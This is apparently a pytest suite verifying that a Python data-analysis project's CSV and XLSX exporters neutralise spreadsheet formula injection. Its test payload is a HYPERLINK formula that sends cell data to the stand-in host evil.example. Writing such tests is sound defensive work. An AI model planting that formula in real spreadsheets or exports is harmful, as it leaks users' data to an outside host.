"""Every table export neutralises spreadsheet formulas (``jiqun.standard.writer``): a firm named
``=HYPERLINK(...)`` comes out as text, with a leading apostrophe, in CSV and XLSX, on every path."""

from __future__ import annotations

import io
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import openpyxl
import pandas as pd
import pytest

from jiqun.chains.templates import template_from_dict
from jiqun.cli.policy_cmd import _write as policy_write
from jiqun.digital.index import DigitalIndex
from jiqun.services.chains import ChainMap, write_chain_output
from jiqun.services.digital import write_digital_output
from jiqun.services.matching import write_match_output
from jiqun.services.resilience import MetricsReport, write_output
from jiqun.standard.writer import table_bytes, write_table
from jiqun.web.responses import table_response

EVIL = '=HYPERLINK("http://evil.example/?x="&A1, "点击查看")'
SAFE = "'" + EVIL


def firms() -> pd.DataFrame:
    return pd.DataFrame({"uscc": ["91320214MA1NA0012A"], "name": [EVIL], "revenue": [-5.0]})


def cells(path_or_bytes: Path | bytes, ext: str) -> list[Any]:
    """Every cell value of the file (all sheets for XLSX)."""
    if ext == ".csv":
        raw = path_or_bytes if isinstance(path_or_bytes, bytes) else path_or_bytes.read_bytes()
        df = pd.read_csv(io.BytesIO(raw), dtype=str, encoding="utf-8-sig", header=None)
        return df.to_numpy().ravel().tolist()
    src = io.BytesIO(path_or_bytes) if isinstance(path_or_bytes, bytes) else path_or_bytes
    wb = openpyxl.load_workbook(src)
    return [c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row]


def assert_neutralised(found: list[Any]) -> None:
    assert SAFE in found, found
    assert EVIL not in found
    assert not any(isinstance(v, str) and v.startswith("=") for v in found)


@pytest.mark.parametrize("ext", [".csv", ".xlsx"])
def test_writer(tmp_path: Path, ext: str) -> None:
    write_table(tmp_path / f"t{ext}", {"data": firms(), "notes": pd.DataFrame({"n": [EVIL]})})
    assert_neutralised(cells(tmp_path / f"t{ext}", ext))
    assert_neutralised(cells(table_bytes(firms(), ext), ext))
    if ext == ".xlsx":  # numbers stay numbers
        assert -5 in cells(tmp_path / f"t{ext}", ext)


def test_writer_parquet_keeps_values(tmp_path: Path) -> None:
    write_table(tmp_path / "t.parquet", firms())
    assert pd.read_parquet(tmp_path / "t.parquet")["name"].tolist() == [EVIL]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_web_table_response(fmt: str) -> None:
    assert_neutralised(cells(table_response(firms(), fmt).body, "." + fmt))


@pytest.mark.parametrize("ext", [".csv", ".xlsx"])
def test_resilience_output(tmp_path: Path, ext: str) -> None:
    empty = pd.DataFrame()
    rep = MetricsReport({"firms": 1}, empty, empty, empty, firms(), {"unit": "万元"}, [EVIL])
    assert_neutralised(cells(write_output(rep, tmp_path / f"r{ext}"), ext))


@pytest.mark.parametrize("ext", [".csv", ".xlsx"])
def test_match_output(tmp_path: Path, ext: str) -> None:
    res = SimpleNamespace(
        table=firms(), weights={}, basis={}, notes=[], synthetic=False, candidates=1
    )
    assert_neutralised(cells(write_match_output(res, tmp_path / f"m{ext}"), ext))  # type: ignore[arg-type]


@pytest.mark.parametrize("ext", [".csv", ".xlsx"])
def test_chain_map_output(tmp_path: Path, ext: str) -> None:
    doc = {
        "id": "toy",
        "name_zh": "示例链",
        "name_en": "toy",
        "field": "new_materials",
        "version": 1,
        "sources": ["test"],
        "segments": [
            {
                "id": "a",
                "name_zh": "甲",
                "name_en": "a",
                "position": "upstream",
                "gbt4754": [{"code": "3091", "confidence": "high", "source": "t"}],
                "keywords": [],
                "hs": [],
                "supplies": [],
            }
        ],
    }
    cm = ChainMap(template_from_dict(doc, "toy.yaml"), firms(), firms(), None, {}, [EVIL])
    assert_neutralised(cells(write_chain_output(cm, tmp_path / f"c{ext}"), ext))


def test_digital_index_output(tmp_path: Path) -> None:
    t = firms()
    ix = DigitalIndex({"n": 1}, t, t, t, t, {"synthetic": False}, [])
    assert_neutralised(cells(write_digital_output(ix, tmp_path / "d.xlsx"), ".xlsx"))


@pytest.mark.parametrize("ext", [".csv", ".xlsx"])
def test_cli_policy_tables(tmp_path: Path, ext: str) -> None:
    policy_write(firms(), tmp_path / f"p{ext}", [EVIL])
    assert_neutralised(cells(tmp_path / f"p{ext}", ext))


def test_no_other_module_writes_tables() -> None:
    """pandas' writers are called only by the table writer (and the upload stager, whose CSV is
    the importer's input, not an export; the lake's Parquet writer)."""
    src = Path(__file__).resolve().parents[2] / "src" / "jiqun"
    calls = ("to_csv(", "to_excel(", "ExcelWriter(", "to_parquet(")
    writers = sorted(
        str(p.relative_to(src))
        for p in src.rglob("*.py")
        if any(c in p.read_text(encoding="utf-8") for c in calls)
    )
    # engine: the lake's Parquet (storage the engine reads back, never a spreadsheet export);
    # inputoutput/table.py: a docstring example that writes its own input file
    assert writers == [
        "engine/__init__.py",
        "inputoutput/table.py",
        "services/uploads.py",
        "standard/writer.py",
    ]


def test_cli_innovation_export(demo_engine: Any, tmp_path: Path) -> None:
    from sqlalchemy import text
    from typer.testing import CliRunner

    from jiqun.cli.app import app

    with demo_engine.begin() as c:
        c.execute(text("UPDATE clusters SET name = :n WHERE cluster_id = 'NC2021-03'"), {"n": EVIL})
    out = tmp_path / "innovation.xlsx"
    res = CliRunner().invoke(app, ["innovation", "--batches", "2021,2022", "--out", str(out)])
    assert res.exit_code == 0, res.output
    assert_neutralised(cells(out, ".xlsx"))
